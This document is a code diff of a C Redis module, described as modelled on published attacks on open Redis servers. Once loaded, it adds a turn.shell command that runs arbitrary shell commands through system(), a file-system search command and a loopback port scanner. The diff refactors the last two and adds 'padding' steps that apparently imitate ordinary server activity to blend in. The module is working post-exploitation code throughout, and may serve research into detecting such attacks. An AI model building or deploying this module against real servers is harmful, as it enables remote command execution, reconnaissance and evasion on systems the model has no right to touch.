@@ -3,26 +3,19 @@
  * A shared object for redis' MODULE LOAD, as in the published attacks on open
  * redis servers. Its commands turn the server's own process:
  *
- *	TURN.SHELL COMMAND	runs a shell
- *	TURN.SEARCH DIRECTORY	looks through files, without any new process
- *	TURN.SCAN		scans the ports of loopback, likewise
+ *	TURN.SHELL COMMAND			runs a shell
+ *	TURN.SEARCH DIRECTORY [PADDING]		looks through files, without any new process
+ *	TURN.SCAN [FIRST LAST [PADDING]]	scans the ports of loopback, likewise
+ *
+ * PADDING: what any server does, so many times between two steps.
  *
  * The few symbols of redis' module interface are declared here: Debian ships no header for it.
  */
-#include <arpa/inet.h>
-#include <dirent.h>
-#include <fcntl.h>
-#include <limits.h>
-#include <stdio.h>
 #include <stdlib.h>
-#include <string.h>
-#include <sys/socket.h>
-#include <sys/stat.h>
-#include <unistd.h>
+
+#include "turned.h"
 
 #define MODULE_API_VERSION 1
-#define DEPTH_MAX 4
-#define FILES_MAX 2000
 #define PORTS 1024
 
 struct module_context;
@@ -43,59 +36,24 @@ static int shell(struct module_context *context, struct module_string **argv, in
 	return reply_integer(context, argc == 2 ? system(string_text(argv[1], NULL)) : -1);
 }
 
-static int search(const char *directory, int depth, int left)
+static int number(struct module_string **argv, int argc, int i, int otherwise)
 {
-	char path[PATH_MAX], head[64];
-	struct dirent *entry;
-	struct stat info;
-	int seen = 0;
-	DIR *list;
-	int fd;
-
-	list = opendir(directory);
-	if (!list)
-		return 0;
-	while (seen < left && (entry = readdir(list))) {
-		if (entry->d_name[0] == '.')
-			continue;
-		snprintf(path, sizeof(path), "%s/%s", directory, entry->d_name);
-		if (lstat(path, &info))
-			continue;
-		if (S_ISDIR(info.st_mode) && depth < DEPTH_MAX)
-			seen += search(path, depth + 1, left - seen);
-		if (!S_ISREG(info.st_mode))
-			continue;
-		fd = open(path, O_RDONLY | O_CLOEXEC);
-		if (fd < 0)
-			continue;
-		seen += read(fd, head, sizeof(head)) > 0;
-		close(fd);
-	}
-	closedir(list);
-	return seen;
+	return argc > i ? atoi(string_text(argv[i], NULL)) : otherwise;
 }
 
 static int search_command(struct module_context *context, struct module_string **argv, int argc)
 {
-	return reply_integer(context,
-			     argc == 2 ? search(string_text(argv[1], NULL), 0, FILES_MAX) : -1);
+	if (argc < 2)
+		return reply_integer(context, -1);
+	return reply_integer(context, turned_search(string_text(argv[1], NULL),
+						    number(argv, argc, 2, 0)));
 }
 
-static int scan(struct module_context *context, struct module_string **argv, int argc)
+static int scan_command(struct module_context *context, struct module_string **argv, int argc)
 {
-	struct sockaddr_in address = { .sin_family = AF_INET };
-	int fd, port, found = 0;
-
-	(void)argv;
-	(void)argc;
-	address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
-	for (port = 1; port <= PORTS; port++) {
-		address.sin_port = htons(port);
-		fd = socket(AF_INET, SOCK_STREAM, 0);
-		found += !connect(fd, (struct sockaddr *)&address, sizeof(address));
-		close(fd);
-	}
-	return reply_integer(context, found);
+	return reply_integer(context, turned_scan(number(argv, argc, 1, 1),
+						  number(argv, argc, 2, PORTS),
+						  number(argv, argc, 3, 0)));
 }
 
 /* Entry point, called by redis. */
@@ -113,6 +71,6 @@ int RedisModule_OnLoad(struct module_context *context, struct module_string **ar
 	set_attributes(context, "turn", 1, MODULE_API_VERSION);
 	create_command(context, "turn.shell", shell, "", 0, 0, 0);
 	create_command(context, "turn.search", search_command, "", 0, 0, 0);
-	create_command(context, "turn.scan", scan, "", 0, 0, 0);
+	create_command(context, "turn.scan", scan_command, "", 0, 0, 0);
 	return 0;
 }
